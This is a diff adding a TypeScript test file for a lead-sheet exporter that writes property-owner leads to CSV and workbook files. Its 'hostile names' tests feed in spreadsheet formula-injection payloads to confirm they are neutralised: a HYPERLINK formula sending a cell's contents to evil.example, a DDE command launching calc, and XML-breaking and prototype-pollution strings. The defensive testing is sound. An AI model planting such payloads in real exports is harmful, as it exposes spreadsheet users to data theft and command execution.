@@ -1,0 +1,156 @@
+import { describe, expect, test } from 'vitest'
+import { writeCsv } from '#contract/csv.ts'
+import { writeWorkbook } from '#server/platform/workbook.ts'
+import { workbookRows } from '#testing/workbook-rows.ts'
+import type { OrderedLeadRow } from './file-queries.ts'
+import { leadSheet, phoneInWords, WITHDRAWN } from './lead-sheet.ts'
+
+const PLACE = { state: 'Texas', county: 'Travis', leadTypeName: 'Vacant Houses' }
+const SOLD_AT = new Date('2026-11-21T10:00:00Z')
+
+const aLead = (lead: Partial<OrderedLeadRow> = {}): OrderedLeadRow => ({
+  acquired_at: new Date('2026-11-18T12:00:00Z'),
+  sold_at: SOLD_AT,
+  address: '1 Elm St',
+  city: 'Austin',
+  zip: '01234',
+  owner_names: ['Ann Owner'],
+  mailing_address: null,
+  phones: [],
+  emails: [],
+  facts: {},
+  source: 'County records',
+  is_do_not_call: false,
+  consent: null,
+  ...lead,
+})
+
+/** The cells of the first lead by their columns. */
+function cellsOf(...leads: OrderedLeadRow[]): Record<string, unknown> {
+  const [header = [], row = []] = leadSheet(leads, PLACE)
+  return Object.fromEntries(header.map((name, index) => [name, row[index]]))
+}
+
+describe('a row', () => {
+  test('says all that is known of a lead', () => {
+    const cells = cellsOf(
+      aLead({
+        owner_names: ['Ann Owner', 'Bob Owner'],
+        mailing_address: 'PO Box 1, Austin, TX',
+        phones: [
+          { number: '+15125550100', kind: 'mobile', isDoNotCall: true },
+          { number: '+442079460000', kind: 'landline', isDoNotCall: false },
+        ],
+        emails: ['ann@example.com'],
+        facts: { valueCents: 31_250_050, equityPercent: 40, beds: 3, yearBuilt: 1962, lastSaleOn: '2001-05-09' },
+        consent: 'Web form, 2026-11-01',
+      }),
+    )
+
+    expect(cells).toEqual({
+      Address: '1 Elm St',
+      City: 'Austin',
+      State: 'Texas',
+      ZIP: '01234',
+      County: 'Travis',
+      'Lead type': 'Vacant Houses',
+      Owner: 'Ann Owner; Bob Owner',
+      'Mailing address': 'PO Box 1, Austin, TX',
+      'Phone 1': '512-555-0100',
+      'Phone 1 kind': 'Mobile',
+      'Phone 1 do not call': 'Yes',
+      'Phone 2': '00442079460000',
+      'Phone 2 kind': 'Landline',
+      'Phone 2 do not call': 'No',
+      'Email 1': 'ann@example.com',
+      Value: 312_500.5,
+      'Equity percent': 40,
+      Beds: 3,
+      'Year built': 1962,
+      'Last sale': '2001-05-09',
+      Consent: 'Web form, 2026-11-01',
+      'Age in days': 2,
+      Source: 'County records',
+    })
+  })
+
+  test('marks every phone of an owner who must not be called', () => {
+    const phones = [{ number: '+15125550100', kind: 'unknown' as const, isDoNotCall: false }]
+
+    expect(cellsOf(aLead({ phones, is_do_not_call: true }))).toMatchObject({ 'Phone 1 do not call': 'Yes' })
+  })
+
+  test('of a lead whose owner had it deleted says so, and keeps its place', () => {
+    const gone = aLead({
+      address: null,
+      city: null,
+      zip: null,
+      owner_names: null,
+      phones: null,
+      emails: null,
+      facts: null,
+      source: null,
+    })
+
+    expect(cellsOf(gone)).toMatchObject({ Address: WITHDRAWN, Owner: null, 'Phone 1': null, 'Age in days': 2 })
+  })
+})
+
+test('there are as many columns for phones and mails as one of the leads needs, and one at least', () => {
+  const phone = { number: '+15125550100', kind: 'mobile' as const, isDoNotCall: false }
+  const [header = []] = leadSheet(
+    [aLead(), aLead({ phones: [phone, phone, phone], emails: ['a@b.c', 'd@e.f'] })],
+    PLACE,
+  )
+
+  expect(header.filter((name) => /^Phone \d$/.test(String(name)))).toHaveLength(3)
+  expect(header.filter((name) => /^Email \d$/.test(String(name)))).toHaveLength(2)
+  expect(leadSheet([], PLACE)[0]).toContain('Phone 1')
+})
+
+describe('hostile names', () => {
+  const HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Call me")',
+    '+1+cmd|"/C calc"!A0',
+    '-2+3',
+    '@SUM(A1)',
+    '\t=1+1',
+    '\r=1+1',
+    'a "quoted", name\r\nwith lines',
+    '</t></is></c><c><f>1+1</f></c>',
+    '__proto__',
+    'constructor',
+    'half \ud800 letter',
+    'zero \u0001 control',
+  ]
+  const rows = leadSheet(
+    HOSTILE.map((name) => aLead({ owner_names: [name] })),
+    PLACE,
+  )
+
+  test('begin no cell of a CSV file that a spreadsheet would calculate', () => {
+    const cells = writeCsv(rows)
+      .split(/,|\r\n/)
+      .map((cell) => cell.replace(/^"/, ''))
+
+    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([])
+    expect(cells.filter((cell) => cell.startsWith("'")).length).toBeGreaterThanOrEqual(6)
+  })
+
+  test('stay text in a workbook, to the letter but for what XML cannot say', () => {
+    const bytes = writeWorkbook('Leads', rows)
+
+    const read = workbookRows(bytes)
+    const column = (rows[0] ?? []).indexOf('Owner')
+    expect(read.slice(1).map((row) => row[column])).toEqual(
+      HOSTILE.map((name) => name.toWellFormed().replaceAll('\u0001', '')),
+    )
+  })
+})
+
+test.each([
+  ['+15125550100', '512-555-0100'],
+  ['+4930901820', '004930901820'],
+])('the phone %s reads %s', (number, words) => {
+  expect(phoneInWords(number)).toBe(words)
+})
